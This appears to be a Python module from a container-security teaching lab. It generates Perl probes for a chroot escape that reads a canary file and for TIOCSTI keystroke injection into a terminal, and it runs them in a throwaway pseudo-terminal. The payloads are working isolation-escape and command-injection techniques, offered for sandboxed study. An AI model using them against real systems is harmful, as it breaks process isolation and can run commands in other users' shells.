"""The escape gallery's probes of the process boundary (notebook 08): break-outs that need no
power at all, only something a runtime forgot to take away. The caller's terminal
(``tiocsti``, run with ``in_a_pty`` in a pseudo-terminal made here, never the learner's), and
the classic chroot escape (``chroot_escape``). (The inherited descriptor needs no helper: a
shell's ``exec 7<DIR`` is the whole probe.)
"""

from __future__ import annotations

import os
import subprocess
import sys

from labkit.lab.escape_probes import Canary


def chroot_escape(canary: Canary) -> str:
    """Perl for the classic chroot escape, then a read of the canary. Inside a chroot, root
    chroots again into a subdirectory *without* changing into it: its working directory is
    now outside its root, and ``..`` climbs up to the real ``/``, where ``chroot(".")`` stays."""
    return (
        'chroot("/usr") or die "chroot: $!\\n"; chdir("..") for 1 .. 64; '
        'chroot(".") or die "chroot: $!\\n"; '
        f'open(my $f, "<", "{canary.path}") or die "cannot read the canary: $!\\n"; print <$f>;'
    )


def tiocsti(text: str) -> str:
    """Perl that pushes ``text`` and a newline into its terminal's *input*, one character at a
    time with the TIOCSTI ioctl, as if typed on the keyboard: through descriptor 0, then
    through /dev/tty (the controlling terminal). It prints what each attempt did."""
    return (
        'for my $f ("/proc/self/fd/0", "/dev/tty") { '
        'if (open(my $t, "+<", $f)) { my $ok = 1; '
        f'for my $c (split //, "{text}\\n") {{ $ok &&= ioctl($t, 0x5412, $c) }} '
        'print "$f: ", ($ok ? "typed" : "refused: $!"), "\\n" } '
        'else { print "$f: cannot open: $!\\n" } }'
    )


def in_a_pty(argv: list[str], timeout: float = 60) -> tuple[str, str]:
    """Run ``argv`` in a new session whose controlling terminal is a pseudo-terminal made here
    (``setsid --ctty``, its stdin the pty; ``labkit`` is this notebook's). Returns what it
    printed and what was left queued as *input* on that terminal: what a shell reading that
    terminal would have run next. Nothing reads it: both ends are closed before returning."""
    import termios

    if argv[:1] == ["labkit"]:  # this notebook's labkit, as in lab.terminal
        argv = [sys.executable, "-m", "labkit.cli", *argv[1:]]
    master, slave = os.openpty()
    try:
        done = subprocess.run(
            ["setsid", "--ctty", *argv],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            timeout=timeout,
        )
        attrs = termios.tcgetattr(slave)
        attrs[3] &= ~termios.ICANON  # read what is queued without waiting for a whole line
        termios.tcsetattr(slave, termios.TCSANOW, attrs)
        os.set_blocking(slave, False)
        try:
            queued = os.read(slave, 4096)
        except BlockingIOError:
            queued = b""
        return done.stdout.decode(errors="replace"), queued.decode(errors="replace")
    finally:
        os.close(master)
        os.close(slave)
